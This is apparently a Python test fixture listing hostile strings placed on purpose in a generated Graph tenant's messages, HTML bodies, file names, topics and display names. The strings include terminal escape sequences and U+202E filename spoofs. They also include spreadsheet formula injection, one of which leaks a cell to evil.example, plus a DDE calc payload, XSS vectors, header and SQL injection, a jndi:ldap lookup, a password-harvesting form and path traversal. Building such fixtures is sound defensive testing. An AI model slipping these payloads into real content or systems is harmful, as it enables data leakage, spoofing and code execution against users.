"""Hostile strings the generated tenant carries on purpose.

Each one attacks a consumer of Graph data: terminals (ANSI/OSC escapes, C0/C1
controls), bidi rendering (U+202E), spreadsheets (formula injection), HTML
viewers (script, event handlers, javascript: links), log files (CR/LF) and file
systems (path traversal, device names, separators and newlines in names).
"""

TEXTS = [
    "\x1b[31mRED ALERT\x1b[0m this line is coloured by an ANSI escape",
    "\x1b]0;pwned\x07 this sets the terminal title (OSC 0)",
    "\x1b]52;c;cHduZWQ=\x07 this writes the clipboard (OSC 52)",
    "\x1b]8;;https://evil.example/\x07innocent link\x1b]8;;\x07 (OSC 8 hyperlink)",
    "bell\x07 backspace\x08\x08\x08 and form feed\x0c and vertical tab\x0b",
    "C1 CSI \u009b31m and C1 OSC \u009d0;c1title\u009c inside text",
    "\x1bP+q544e\x1b\\ a DCS request-terminfo query",
    "\x1b[2J\x1b[H screen cleared, cursor homed",
    "file name trick: invoice\u202efdp.exe (U+202E right-to-left override)",
    "\u202eThis whole sentence is reversed\u202c and this is not",
    "zero width: a\u200bb\u200cc\u200dd\ufeffe and LRM\u200e RLM\u200f",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1 starts with a tab",
    "\r=1+1 starts with a carriage return",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "Line one\nLine two\r\nX-Injected-Header: yes",
    "Subject: =?UTF-8?Q?=0A?=Bcc: victim@example.com",
    "\"quoted\", with comma; and semicolon\ttab",
    "Robert'); DROP TABLE messages;--",
    "%s%s%s%n %x %p {0} ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\..\\boot.ini",
]

# Raw HTML bodies (contentType html) that a careless viewer would execute.
HTML_BODIES = [
    "<p>before</p><script>alert(1)</script><p>after</p>",
    "<p>image:</p><img src=x onerror=alert(1)>",
    "<p><a href=\"javascript:alert(1)\">open the report</a></p>",
    "<iframe src=\"https://evil.example/\"></iframe><p>frame above</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<svg onload=alert(1)><circle r=\"5\"/></svg>",
    "<p>broken <b><i>nesting</b></i> and unclosed <div><span>",
    "<p>end of document</p></body></html><p>after the end</p><!-- comment --> ]]>",
    "<form action=\"https://evil.example/\"><input name=\"password\" type=\"password\"></form>",
    "<img src=\"https://evil.example/track.gif?u=1\" width=\"1\" height=\"1\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<p>\x1b]0;pwned\x07 escape inside HTML</p>",
]

FILE_NAMES = [
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "CON",
    "NUL.txt",
    "aux.docx",
    "COM1",
    "name/with/slashes.txt",
    "multi\nline\nname.txt",
    ".hidden",
    "trailing dot.",
    "  spaces around  .txt",
    "\x1b[31mred\x1b[0m.txt",
    "invoice\u202efdp.exe",
    "report:v2?.docx",
    "=HYPERLINK(\"http://evil.example\").xlsx",
    "<script>alert(1)</script>.html",
    "x" * 240 + ".txt",
]

TOPICS = [
    "../../etc/passwd",
    "CON",
    "Topic with\nnewline",
    "\x1b]0;pwned\x07Team chat",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "\u202eevil topic\u202c",
    "a/b\\c:d*e?f\"g<h>i|j",
    "\x1b[31mred topic\x1b[0m",
]

# People with hostile display names; their sign-in names stay plain ASCII.
PEOPLE = [
    {"display": "Mallory \u202enimdA\u202c", "given": "Mallory", "surname": "\u202enimdA\u202c",
     "ascii": "mallory"},
    {"display": "Eve \x1b[31mRed\x1b[0m\x1b]0;pwned\x07", "given": "Eve", "surname": "Red",
     "ascii": "eve"},
    {"display": "../../etc/passwd Trudy\nNewline", "given": "Trudy", "surname": "Newline",
     "ascii": "trudy"},
    {"display": "<script>alert(1)</script>", "given": "Script", "surname": "Kiddie",
     "ascii": "script.kiddie"},
    {"display": "=HYPERLINK(\"http://evil.example\",\"Bob\")", "given": "Formula",
     "surname": "Bob", "ascii": "formula.bob"},
]
